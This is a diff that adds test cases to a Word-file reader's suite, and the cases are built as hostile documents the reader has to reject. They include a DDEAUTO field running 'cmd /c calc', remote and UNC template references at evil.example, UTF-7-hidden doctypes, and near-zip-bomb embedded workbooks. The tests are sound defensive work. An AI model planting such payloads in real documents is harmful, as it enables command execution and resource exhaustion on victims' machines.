@@ -3,16 +3,26 @@
 from __future__ import annotations
 
 import io
+import random
 import struct
 import zipfile
 
 import pytest
 
+from papers.document import plain
 from papers.errors import PapersError
 from papers.readers.word import read_blocks, read_word
 from tests.readers.word_files import MAIN, SPACES, field, para, relations, run, types, word_file
 
+AXIS = (
+    '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:valAx><c:scaling><c:max val="9"/><c:min val="0"/></c:scaling>'
+    '<c:majorUnit val="1E-9"/></c:valAx></c:chartSpace>'
+)
 SETTINGS = "word/settings.xml"
+DENSE = random.Random(1).randbytes(100).ljust(16_000, b"\0") * 3600
+"""58 MB that a zip archive packs to about a hundredth: not yet a bomb."""
+
+LOCAL = ("Normal.dotm", "file:///C:\\Users\\jo\\Normal.dotm", "C:\\Users\\jo\\Normal.dotm", "file:///C:/Program%20Files/Office/x.dotx")
 
 
 def document(inner: str, before: str = "") -> str:
@@ -71,6 +81,31 @@ HOSTILE = {
         word_file(para("x"), parts={"word/_rels/settings.xml.rels": relations(("r1", "attachedTemplate", "https://evil.example/t.dotm"), external=("r1",))}),
         "tied to a template elsewhere",
     ),
+    "a template on a server": (
+        word_file(para("x"), parts={"word/_rels/settings.xml.rels": relations(("r1", "attachedTemplate", "file:///\\\\evil\\t.dotm"), external=("r1",))}),
+        "tied to a template elsewhere",
+    ),
+    "a linked picture in small letters": (
+        word_file(para("x"), parts={"word/_rels/document.xml.rels": relations(("r1", "image", "https://evil.example/p.png"), external=("r1",)).replace('"External"', '"external"')}),
+        "fetches something",
+    ),
+    "entities in an encoding that hides them": (
+        word_file(parts={"word/document.xml": b"<?xml version='1.0' encoding='utf-7'?>+ADwAIQ-DOCTYPE w>" + document(para("x")).encode()}),
+        "unusual encoding",
+    ),
+    "workbooks that are bombs together": (
+        word_file(para("x"), parts={f"word/embeddings/{n}.xlsx": word_file(parts={"a.txt": DENSE}) for n in range(3)}),
+        "workbooks unpack to more than",
+    ),
+    "a cell over two thousand million columns": (
+        word_file('<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr></w:tc></w:tr></w:tbl>'),
+        "a number that Word does not write (gridSpan 2000000000",
+    ),
+    "a number that is none": (word_file(para("x", properties='<w:numPr><w:ilvl w:val="zero"/></w:numPr>')), "a number that Word does not write"),
+    "an axis with ticks without end": (
+        word_file(para("x"), parts={"word/charts/chart1.xml": AXIS}),
+        "a number that Word does not write (majorUnit",
+    ),
     "a linked picture": (word_file(para("x"), links=(("r1", "image", "https://evil.example/p.png"),), external=("r1",)), "fetches something"),
     "an embedded object": (word_file(para("x"), links=(("r1", "oleObject", "embeddings/a.xlsx"),)), "fetches something"),
     "an object in disguise": (word_file(para("x"), parts={"word/media/image1.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}), "embedded object"),
@@ -83,6 +118,11 @@ HOSTILE = {
     "a field that runs": (word_file(para(field("DDEAUTO cmd /c calc", run("x")))), "fetches or runs"),
     "a field that runs, split": (word_file(para('<w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "http://x"</w:instrText></w:r>')), "fetches or runs"),
     "a field that fetches": (word_file(para(f'<w:fldSimple w:instr=" INCLUDETEXT c:/x ">{run("x")}</w:fldSimple>')), "fetches or runs"),
+    "a field that fetches after one that does not": (word_file(para(field("PAGE", run("1")) + field("INCLUDEPICTURE x", run("x")))), "fetches or runs"),
+    "a field that fetches within another": (
+        word_file(para('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF </w:instrText></w:r>' + field("LINK x", run("x")))),
+        "fetches or runs",
+    ),
     "no body": (word_file(para("x"), parts={"_rels/.rels": relations()}), "no body"),
     "Strict Open XML": (
         word_file(parts={"word/document.xml": '<document xmlns="http://purl.oclc.org/ooxml/wordprocessingml/main"/>'}),
@@ -111,6 +151,19 @@ def test_every_reason_is_given_at_once():
     with pytest.raises(PapersError) as caught:
         read_word(data)
     assert len(caught.value.problems) == 2
+
+
+@pytest.mark.parametrize("address", LOCAL)
+def test_a_template_on_the_officers_own_machine_is_left_aside_and_that_is_said(address):
+    related = relations(("r1", "attachedTemplate", address), external=("r1",))
+    data = word_file(
+        para("Words"),
+        parts={SETTINGS: f"<w:settings {SPACES}/>", "word/_rels/settings.xml.rels": related},
+        links=(("r2", "settings", "settings.xml"),),
+    )
+    blocks, problems = read_blocks(data, "x")
+    assert [plain(each.inlines) for each in blocks] == ["Words"]
+    assert [(each.code, each.level) for each in problems] == [("word-template-dropped", "advice")]
 
 
 def test_a_plain_file_passes():
